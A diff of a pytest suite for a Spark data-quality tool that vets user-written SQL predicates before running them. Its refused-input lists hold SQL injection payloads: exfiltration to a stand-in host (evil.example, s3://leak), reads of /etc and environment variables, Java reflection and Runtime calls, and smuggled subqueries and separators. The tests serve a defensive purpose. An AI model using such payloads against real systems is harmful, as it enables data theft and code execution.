@@ -1,4 +1,5 @@
 import pytest
+from pyspark.errors import PySparkException
 from pyspark.sql import functions as F
 
 from conftest import SECRETS
@@ -8,28 +9,33 @@ from tabproof.operators.admission import admit_checks
 from tabproof.sources.catalog import Catalog
 
 GOOD = [
-    "discount >= 0 AND discount <= 1", "l_shipdate >= l_orderdate", "amount IS NOT NULL",
-    "status IN ('settled', 'pending', 'void')", "length(trim(email)) > 0", "coalesce(qty, 0) >= 0",
-    "regexp_matches(code, '^[A-Z]{3}-[0-9]+$')", 'CAST("order id" AS BIGINT) > 0',
-    "note = 'please select from the menu'", '"from" IS NOT NULL', '"select" > 0', "a = 'it''s from'",
-]
+    "l_discount BETWEEN 0 AND 0.1 AND l_tax < 0.09", "o_orderdate <= l_shipdate", "c_acctbal IS NULL OR c_acctbal > -1000",
+    "o_orderpriority IN ('1-URGENT', '5-LOW')", "char_length(rtrim(p_name)) BETWEEN 3 AND 60",
+    "nullif(l_linenumber, 0) < 8", "regexp_matches(p_brand, '^Brand#[1-5][1-5]$')", 'CAST("p size" AS INT) < 51',
+    "p_type <> 'drop it from the union list'", '"join" >= 0', "`group` = 1", "c_name <> 'O''Hara, set'",
+]
+#: A literal that seems to open inside a quoted name, and one that seems to close there.
+HIDDEN = """exists(array(1), "q'" -> true) AND (SELECT count(*) FROM nation) > 5 AND exists(array(1), "q'" -> true)"""
 BAD = {
-    "read_csv('https://evil.example/?d=' || email) IS NOT NULL": "external data",
-    "(SELECT count(*) FROM read_parquet('https://evil/x')) > 0": "select",
-    "amount > (SELECT max(salary) FROM employees)": "select",
-    "parquet_scan('s3://leak/' || ssn) IS NULL": "external data",
-    "x > 0; ATTACH 'https://evil/db'": "separator",
-    "x > 0 -- ' OR read_csv('http://evil')": "marker",
-    "x > 0 /* smuggle */ AND glob('/etc/*') IS NULL": "marker",
-    "getenv('KEY') IS NULL": "getenv",
-    "reflect('java.lang.System', 'getenv') IS NULL": "reflect",
-    r"a = 'x\' OR reflect(1)'": "Backslash",
-    "   ": "Empty",
-    "x" * 1001 + " > 0": "longer",
-    "(a > 0": "Unbalanced",
-    "a > 0)": "Unbalanced",
-    "a) > (0": "Unbalanced",
-    "$$x$$ = 1": "marker",
+    "(select min(o_custkey) from orders) = o_custkey": "select",
+    HIDDEN: "select",
+    "o_totalprice < 5 union all values (2)": "union",
+    "read_json('/data/' || o_orderstatus) is null": "external data",
+    "orders_scan(o_orderkey) > 0": "external data",
+    "o_orderkey > 0; vacuum": "separator",
+    "o_orderkey > 0 -- and so on": "marker",
+    "o_orderkey /* all */ > 0": "marker",
+    "$$a$$ <> o_orderstatus": "marker",
+    "current_setting(o_orderstatus) <> ''": "current_setting",
+    "java_method('java.lang.Runtime', 'getRuntime') is null": "java_method",
+    r"o_orderstatus = 'F\' or rand() > 0": "Backslash",
+    "\t\n": "Empty",
+    "o_custkey + " * 90 + "1 > 0": "longer",
+    "((o_custkey > 0)": "Unbalanced",
+    "o_custkey > 0))": "Unbalanced",
+    "o_custkey) = (1": "Unbalanced",
+    "o_orderstatus = 'F": "Unclosed",
+    '"o_orderstatus = 1': "Unclosed",
 }
 
 
@@ -50,7 +56,7 @@ def test_refused_expressions(spark):
 def test_long_unclosed_texts_are_scanned_without_trouble(spark):
     texts = ["'" + "a''" * 300, '"' * 999, "(" * 500 + ")" * 500, "a " * 100_000]
     found = reasons(spark, texts)
-    assert found[2] is None and "longer" in found[3]
+    assert "Unclosed" in found[1] and found[2] is None and "longer" in found[3]
 
 
 def test_requoting():
@@ -74,27 +80,75 @@ def ref(table, columns, parent, parent_columns):
 def test_predicates(catalog):
     found = run(
         catalog,
-        dict(table="people", expression="id > 0"),
-        dict(table="people", expression="amount >= 0"),
-        dict(table="people", expression="length(ssn) = 11"),
-        dict(table="people", expression="no_such_column > 0"),
-        dict(table="people", expression="read_csv('http://x/' || email) IS NOT NULL"),
-        dict(table="secrets", expression="1 = 1"),
+        dict(table="clients", expression="client_id >= 0"),
+        dict(table="clients", expression="balance >= 0"),
+        dict(table="clients", expression="length(badge) = 8"),
+        dict(table="clients", expression="no_such_column > 0"),
+        dict(table="clients", expression="read_csv(contact) IS NOT NULL"),
+        dict(table="strangers", expression="1 = 1"),
     )
     assert [r["status"] for r in found] == ["holds", "falsified", "holds", "skipped", "skipped", "skipped"]
-    assert (found[1]["violations"], found[1]["row_count"]) == (1, 9)
-    assert found[1]["pct"] == pytest.approx(100 / 9) and "FROM people" in found[1]["sql"]
+    assert (found[1]["violations"], found[1]["row_count"]) == (1, 30)
+    assert found[1]["pct"] == pytest.approx(100 / 30) and "FROM clients" in found[1]["sql"]
     assert "no_such_column" in found[3]["reason"]
     assert "external data" in found[4]["reason"] and "Unknown table" in found[5]["reason"]
 
 
+def test_plans_are_inspected_before_they_run(spark, catalog):
+    spark.udf.register("twice", lambda x: x * 2, "int")
+    spark.sql("CREATE OR REPLACE TEMPORARY FUNCTION thrice(x INT) RETURNS BIGINT RETURN x + (SELECT max(id) FROM range(3))")
+    found = run(
+        catalog,
+        dict(table="clients", expression="twice(client_id) >= 0"),
+        dict(table="clients", expression="thrice(client_id) >= 0"),
+        dict(table="clients", expression=HIDDEN),
+        dict(table="clients", expression="strftime(joined, 'year %Y') <> 'year 1999'"),
+        dict(table="clients", expression="regexp_matches(badge, '^B-')"),
+        dict(table="clients", expression="strftime(joined, '%Q') <> ''"),
+    )
+    assert [r["status"] for r in found] == ["skipped", "skipped", "skipped", "holds", "holds", "skipped"]
+    assert all("not allowed" in r["reason"] for r in found[:3])
+    df = catalog.frame("clients")
+    for text in ("(SELECT count(*) FROM deals) > 0", "exists(SELECT 1 FROM deals)", "rand() < 2", "reflect('java.lang.Math', 'random') > 0"):
+        assert "not allowed" in evaluate.predicate_reason(df, text)
+
+
+def test_equal_ids_and_quotes_in_ids(spark):
+    catalog = Catalog.from_frames(spark, {"t": spark.range(10)})
+    asked = spark.createDataFrame(
+        [(i, "row_predicate", "t", [], e, "", []) for i, e in (("same", "id > 3"), ("same", "id > 8"), ("it's", "id < 5"), ("", "id >= 0"))],
+        "id string, kind string, table string, columns array<string>, expression string, references_table string, references_columns array<string>",
+    )
+    found = sorted((r["id"], r["violations"]) for r in evaluate.evaluate_checks(catalog, asked).collect())
+    assert found == [("", 0), ("it's", 5), ("same", 4), ("same", 9)]
+    catalog.close()
+
+
+def test_errors_of_files_are_raised(spark, tmp_path):
+    spark.range(100).write.parquet(str(tmp_path / "t"))
+    df = spark.read.parquet(str(tmp_path / "t"))
+    catalog = Catalog.from_frames(spark, {"t": df})
+    for file in (tmp_path / "t").glob("*.parquet"):
+        file.write_bytes(b"PAR1 gone PAR1")
+    with pytest.raises(Exception, match="(?i)parquet|read"):
+        run(catalog, dict(table="t", expression="id >= 0"), dict(table="t", expression="id <> 5"))
+    catalog.close()
+
+
+def test_more_predicates_than_one_aggregate_takes(spark):
+    catalog = Catalog.from_frames(spark, {"t": spark.range(50)})
+    found = run(catalog, *[dict(table="t", expression=f"id <> {i % 50} OR id > {i}") for i in range(400)])
+    assert all(r["violations"] == 1 for r in found[:50]) and len(found) == 400
+    catalog.close()
+
+
 def test_uniqueness(catalog):
     found = run(
         catalog,
-        dict(kind="unique", table="people", columns=["email", "ssn"]),
-        dict(kind="unique", table="people", columns=["id"]),
-        dict(kind="unique", table="people", columns=["nope"]),
-        dict(kind="unique", table="people", columns=["ssn", "email"]),
+        dict(kind="unique", table="clients", columns=["contact", "badge"]),
+        dict(kind="unique", table="clients", columns=["client_id"]),
+        dict(kind="unique", table="clients", columns=["nope"]),
+        dict(kind="unique", table="clients", columns=["badge", "contact"]),
     )
     assert [(r["status"], r["violations"]) for r in found] == [
         ("falsified", 2), ("holds", 0), ("skipped", None), ("falsified", 2)]
@@ -111,44 +165,44 @@ def test_null_keys_repeat(spark):
 def test_references(catalog):
     found = run(
         catalog,
-        ref("lines", ["order_id"], "orders", ["order_id"]),
-        ref("orders", ["order_id"], "lines", ["order_id"]),
-        ref("orders", ["customer_id"], "orders", ["customer_id"]),
-        ref("lines", ["order_id"], "ghost", ["order_id"]),
-        ref("padded", ["order_id"], "orders", ["order_id"]),
-        ref("padded", ["line_id"], "orders", ["order_id"]),
-        ref("orders", ["total"], "lines", ["qty"]),
+        ref("items", ["deal_id"], "deals", ["deal_id"]),
+        ref("deals", ["deal_id"], "items", ["deal_id"]),
+        ref("deals", ["client_id"], "clients", ["client_id"]),
+        ref("items", ["deal_id"], "nowhere", ["deal_id"]),
+        ref("coded", ["deal_id"], "deals", ["deal_id"]),
+        ref("coded", ["item_id"], "items", ["item_id"]),
+        ref("deals", ["total"], "items", ["pieces"]),
     )
-    assert [(r["status"], r["violations"]) for r in found[:3]] == [("falsified", 1), ("falsified", 1), ("holds", 0)]
-    assert found[0]["row_count"] == 5 and "NOT EXISTS" in found[0]["sql"]
+    assert [(r["status"], r["violations"]) for r in found[:3]] == [("falsified", 2), ("falsified", 1), ("holds", 0)]
+    assert found[0]["row_count"] == 22 and "NOT EXISTS" in found[0]["sql"]
     assert found[3]["status"] == "skipped"
     assert "types differ" in found[4]["reason"] and "string" in found[4]["reason"] and "int" in found[4]["reason"]
     assert not set("'\"") & set(found[4]["reason"])
     assert found[5]["status"] == "holds"
-    assert found[6]["violations"] == 4  # double against int
+    assert found[6]["violations"] == 12  # double against int
 
 
 def test_text_compared_with_a_number_is_refused(catalog):
     found = run(
         catalog,
-        dict(table="padded", expression="order_id > 0"),
-        dict(table="padded", expression="try_cast(order_id AS BIGINT) > 0"),
-        dict(table="padded", expression="order_id > '0'"),
-        dict(table="people", expression="created_at >= '1970-01-01'"),
+        dict(table="coded", expression="deal_id > 0"),
+        dict(table="coded", expression="try_cast(deal_id AS BIGINT) > 0"),
+        dict(table="coded", expression="deal_id > '0'"),
+        dict(table="clients", expression="joined >= '1970-01-01'"),
     )
-    assert "Cannot compare" in found[0]["reason"] and "0009" not in found[0]["reason"]
+    assert "Cannot compare" in found[0]["reason"] and "0042" not in found[0]["reason"]
     assert [r["status"] for r in found] == ["skipped", "holds", "holds", "holds"]
 
 
 def test_mismatched_key_lengths_are_dropped_as_malformed(spark, catalog):
     wire = checks.checks_frame(spark, [
-        ref("lines", ["order_id"], "orders", ["order_id", "total"]),
-        dict(table="  ", expression="1 = 1"), dict(table="lines", expression="  "),
-        dict(kind="unique", table="lines"), dict(kind="mystery", table="lines", expression="1 = 1"),
-        dict(table=" lines ", expression=" qty > 0 ", title=" t "),
+        ref("items", ["deal_id"], "deals", ["deal_id", "total"]),
+        dict(table="  ", expression="1 = 1"), dict(table="items", expression="  "),
+        dict(kind="unique", table="items"), dict(kind="mystery", table="items", expression="1 = 1"),
+        dict(table=" items ", expression=" pieces > 0 ", title=" t "),
     ])
     kept = checks.normalize_checks(wire).collect()
-    assert [(r["id"], r["table"], r["expression"], r["title"]) for r in kept] == [("h6", "lines", "qty > 0", "t")]
+    assert [(r["id"], r["table"], r["expression"], r["title"]) for r in kept] == [("h6", "items", "pieces > 0", "t")]
     direct = wire.filter("kind = 'references'").withColumn("id", F.lit("x"))
     assert "counts differ" in admit_checks(direct, catalog.schemas()).first()["reason"]
 
@@ -184,20 +238,20 @@ def test_keys_spark_cannot_group_are_skipped(spark):
 
 def test_one_job_counts_many_predicates(spark):
     catalog = Catalog.from_frames(spark, {"t": spark.range(100)})
-    asked = [checks.Check(f"c{i}", "row_predicate", "t", expression=f"id < {i}") for i in range(30)]
+    asked = [evaluate._Asked(i, checks.Check("c", "row_predicate", "t", expression=f"id < {i}")) for i in range(30)]
     spark.sparkContext.setJobGroup("fused", "")
     out = {}
     evaluate._count_predicates(catalog, asked, out)
     jobs = spark.sparkContext.statusTracker().getJobIdsForGroup("fused")
     spark.sparkContext._jsc.clearJobGroup()
-    assert [out[f"c{i}"].violations for i in range(30)] == [100 - i for i in range(30)]
+    assert [out[i].violations for i in range(30)] == [100 - i for i in range(30)]
     assert len(jobs) <= 2  # one query; adaptive execution runs its last stage as a job of its own
     catalog.close()
 
 
 def test_empty_and_single_batches(catalog):
     assert evaluate.evaluate_checks(catalog, checks.normalize_checks(checks.checks_frame(catalog.spark, []))).count() == 0
-    assert run(catalog, dict(table="people", expression="id > 0"))[0]["status"] == "holds"
+    assert run(catalog, dict(table="clients", expression="client_id >= 0"))[0]["status"] == "holds"
 
 
 @pytest.fixture(scope="module")
@@ -230,12 +284,25 @@ def test_hot_rows_stay_where_they_are(skewed):
 
 
 def test_previews(catalog):
-    check = checks.Check("x", "references", "lines", ("order_id",), "", "orders", ("order_id",))
-    assert [r["line_id"] for r in evaluate.violating_rows(catalog, check).collect()] == [5]
-    check = checks.Check("x", "row_predicate", "people", expression="amount >= 0")
-    assert evaluate.violating_rows(catalog, check).columns == catalog.frame("people").columns
-    check = checks.Check("x", "unique", "people", ("email", "ssn"))
-    assert sorted(r["id"] for r in evaluate.violating_rows(catalog, check, None).collect()) == [1, 4]
+    check = checks.Check("x", "references", "items", ("deal_id",), "", "deals", ("deal_id",))
+    assert [r["item_id"] for r in evaluate.violating_rows(catalog, check).collect()] == [21, 22]
+    check = checks.Check("x", "row_predicate", "clients", expression="balance >= 0")
+    assert evaluate.violating_rows(catalog, check).columns == catalog.frame("clients").columns
+    check = checks.Check("x", "row_predicate", "clients", expression="client_id < 0")
+    first = evaluate.violating_rows(catalog, check, limit=3)
+    assert [r["client_id"] for r in first.collect()] == [0, 1, 2]
+    check = checks.Check("x", "unique", "clients", ("contact", "badge"))
+    assert sorted(r["client_id"] for r in evaluate.violating_rows(catalog, check, None).collect()) == [2, 9]
+
+
+def test_previews_of_columns_without_an_order(spark):
+    df = spark.range(6).selectExpr("id % 2 as k", "map('a', id) as m", "parse_json(string(id)) as v", "array(map(1, id)) as a", "-id as n")
+    catalog = Catalog.from_frames(spark, {"t": df})
+    check = checks.Check("x", "unique", "t", ("k",))
+    assert [r["n"] for r in evaluate.violating_rows(catalog, check, limit=3).collect()] == [-4, -2, 0]
+    check = checks.Check("x", "row_predicate", "t", expression="k > 5")
+    assert [r["n"] for r in evaluate.violating_rows(catalog, check, limit=2).collect()] == [-4, -2]
+    catalog.close()
 
 
 def test_predicate_filter_on_a_stream(spark, tmp_path):
@@ -257,66 +324,69 @@ def notes(spark, known, *texts):
     return [r[0] for r in df.orderBy("i").select(findings.sanitize_note(F.col("r"), known)).collect()]
 
 
-KNOWN = ["amount", "customer_email", "customers", "order_id", "orders"]
+KNOWN = ["badge", "balance", "clients", "deal_id", "items"]
 
 
 def test_notes_carry_no_values(spark):
     leaky = [
-        "Conversion Error: Could not convert string 'ann.reed@corp.io' to DOUBLE",
-        "Invalid Input Error: Could not cast value '111-11-1111' to INTEGER",
-        "Binder Error: No function matches given name and argument types 'foo(\"Ann Reed\")'",
-        "[CAST_INVALID_INPUT] The value 'REF-10293' of the type \"STRING\" cannot be cast to \"INT\"",
-        "Conversion Error: " + "x" * 5000,
+        f"[CAST_INVALID_INPUT] The value '{secret}' of the type \"STRING\" cannot be cast to \"INT\" in balance"
+        for secret in SECRETS
     ]
+    leaky += [f"[DIVIDE_BY_ZERO] Division by zero near `{SECRETS[0]}`", "[UNRESOLVED_COLUMN] " + "y" * 4000]
     for note in notes(spark, KNOWN, *leaky):
         assert len(note) <= 120 and not set("'\"`") & set(note)
         assert not any(s in note for s in SECRETS)
 
 
+def spark_error(spark, text):
+    with pytest.raises(PySparkException) as caught:
+        spark.sql(text).collect()
+    return evaluate._error_reason(caught.value)
+
+
 def test_note_categories(spark):
     cases = {
-        'Binder Error: Referenced column "nope" not found': "unknown column",
-        "Conversion Error: Could not convert string 'x' to DOUBLE": "type mismatch",
-        'Parser Error: syntax error at or near "FROM"': "syntax error",
-        'Unknown table "ghost".': "unknown table",
-        'Keyword "select" is not allowed in a row predicate.': "forbidden keyword",
-        'Function "getenv" is not allowed.': "forbidden keyword",
-        'Identifier "read_csv" can read external data.': "file or URL access",
+        spark_error(spark, "SELECT l_nothing FROM range(3)"): "unknown column",
+        spark_error(spark, "SELECT no_function(id) FROM range(3)"): "unknown function",
+        spark_error(spark, "SELECT * FROM no_table_here"): "unknown table",
+        spark_error(spark, "SELECT id + FROM range(3)"): "syntax error",
+        spark_error(spark, "SELECT CAST(concat('a', id) AS INT) FROM range(3)"): "type mismatch",
+        spark_error(spark, "SELECT id / (id - id) FROM range(3)"): "arithmetic error",
+        'Unknown table "strangers".': "unknown table",
+        'Keyword "union" is not allowed in a row predicate.': "forbidden keyword",
+        'Function "java_method" is not allowed.': "forbidden keyword",
+        'Identifier "orders_scan" can read external data.': "file or URL access",
         "Statement separator (;) is not allowed.": "separator",
         "Unbalanced parentheses.": "unbalanced",
-        "Cannot compare a.b (string) with c.d (bigint): types differ.": "types differ",
+        "Cannot compare items.pieces (int) with clients.badge (string): types differ.": "types differ",
         "Referencing and referenced column counts differ.": "column counts differ",
-        "[UNRESOLVED_COLUMN.WITH_SUGGESTION] A column `x` cannot be resolved.": "unknown column",
-        "[UNRESOLVED_ROUTINE] Cannot resolve routine `foo`.": "unknown function",
-        "[DIVIDE_BY_ZERO] Division by zero.": "arithmetic error",
-        "[PARSE_SYNTAX_ERROR] Syntax error at end of input.": "syntax error",
-        "gone fishing": "could not be evaluated",
+        "the moon was in the way": "could not be evaluated",
     }
     for text, note in zip(cases, notes(spark, KNOWN, *cases)):
         assert cases[text] in note, text
-    named = notes(spark, KNOWN, "Referenced column secret_column not found in orders, orders or order_id")[0]
-    assert named == "unknown column (orders, order_id)"
+    named = notes(spark, KNOWN, "[UNRESOLVED_COLUMN] hidden_thing is not in items, items or deal_id")[0]
+    assert named == "unknown column (items, deal_id)"
 
 
 def test_rounds_and_summary(catalog):
     spark = catalog.spark
     first = checks.checks_frame(spark, [
-        dict(title="amounts", table="people", expression="amount >= 0", severity="high"),
-        dict(title="ids", table="people", expression="id > 0"),
-        dict(title="cast", table="people", expression="CAST(notes AS INT) > 0"),
+        dict(title="balances", table="clients", expression="balance >= 0", severity="high"),
+        dict(title="ids", table="clients", expression="client_id >= 0"),
+        dict(title="cast", table="clients", expression="CAST(remark AS INT) > 0"),
     ])
-    second = checks.checks_frame(spark, [dict(title="lines", severity="high", **ref("lines", ["order_id"], "orders", ["order_id"]))])
+    second = checks.checks_frame(spark, [dict(title="items", severity="high", **ref("items", ["deal_id"], "deals", ["deal_id"]))])
     runs = summary.run_round(catalog, second, 2, summary.run_round(catalog, first, 1))
     totals = summary.run_totals(runs).first()
     assert (totals["rounds"], totals["checks"], totals["falsified"], totals["held"], totals["not_run"]) == (2, 4, 2, 1, 1)
     assert [r[0] for r in summary.rounds(runs).collect()] == [1, 2]
     assert {r["id"] for r in summary.falsified(runs).collect()} == {"r1h1", "r2h1"}
     details = {r["id"]: r for r in summary.check_details(runs).collect()}
-    assert details["r2h1"]["check"] == "lines(order_id) → orders(order_id)" and details["r2h1"]["cross_table"]
+    assert details["r2h1"]["check"] == "items(deal_id) → deals(deal_id)" and details["r2h1"]["cross_table"]
     known = findings.known_identifiers(catalog.columns())
     found = findings.to_findings(runs, known)
     lines = {r[0]: r[1] for r in found.select("id", findings.verdict_line()).collect()}
-    assert lines["r1h1"] == "FALSIFIED   amounts  : 1 rows (11.11%)"
+    assert lines["r1h1"] == "FALSIFIED   balances  : 1 rows (3.33%)"
     assert lines["r1h2"] == "HELD        ids  [row_predicate]"
     assert lines["r1h3"].startswith("NOT RUN     cast  : type mismatch")
     assert {"sql", "reason"}.isdisjoint(found.columns)
@@ -326,24 +396,25 @@ def test_rounds_and_summary(catalog):
     with pytest.raises(ValueError, match="maximum of 3 rounds"):
         summary.run_round(catalog, first, 4)
     starters = console.starter_checks(runs).collect()
-    assert len(starters) == 4 and all(spark.sql(r["sql"].replace("coalesce((CAST(notes AS INT) > 0), true)", "true")).count() == 1 for r in starters)
+    assert len(starters) == 4 and all(spark.sql(r["sql"].replace("coalesce((CAST(remark AS INT) > 0), true)", "true")).count() == 1 for r in starters)
 
 
-def test_findings_per_round_are_bounded(spark):
-    df = spark.range(100).selectExpr("int(1 + id % 2) as round", "id as position", "repeat('t', int(if(id = 4, 301, 3))) as title")
+def test_findings_are_shortened_and_none_is_lost(spark):
+    df = spark.range(100).selectExpr("int(1 + id % 20) as round", "id as position", "repeat('t', int(if(id = 4, 301, 3))) as title")
     kept = findings.bound_findings(df)
-    assert {r["round"]: r["count"] for r in kept.groupBy("round").count().collect()} == {1: 40, 2: 40}
-    assert kept.filter("position = 4").count() == 0
+    assert kept.count() == 100 and kept.agg(F.max(F.length("title"))).first()[0] == 300
+    few = findings.bound_findings(df, max_findings=2)
+    assert {r["count"] for r in few.groupBy("round").count().collect()} == {2}
 
 
 def test_console(catalog):
-    outcome = console.run_sql(catalog, "SELECT order_id, sum(qty) AS q FROM lines GROUP BY order_id")
-    assert outcome.columns == ["order_id", "q"] and outcome.row_count == 4 and outcome.ms >= 0
-    page = console.page(catalog.frame("people"), ["id"], 1, size=4)
-    assert [r["id"] for r in page.collect()] == [5, 6, 7, 8]
+    outcome = console.run_sql(catalog, "SELECT deal_id, sum(pieces) AS q FROM items GROUP BY deal_id")
+    assert outcome.columns == ["deal_id", "q"] and outcome.row_count == 13 and outcome.ms >= 0
+    page = console.page(catalog.frame("clients"), ["client_id"], 1, size=4)
+    assert [r["client_id"] for r in page.collect()] == [4, 5, 6, 7]
 
 
 def test_inventory(catalog):
     rows = {r["table"]: r for r in summary.data_inventory(catalog).collect()}
-    assert rows["lines"]["column_list"] == "line_id (int), order_id (int), qty (int)"
-    assert (rows["people"]["rows"], rows["people"]["columns"]) == (9, 8)
+    assert rows["items"]["column_list"] == "item_id (int), deal_id (int), pieces (int)"
+    assert (rows["clients"]["rows"], rows["clients"]["columns"]) == (30, 8)
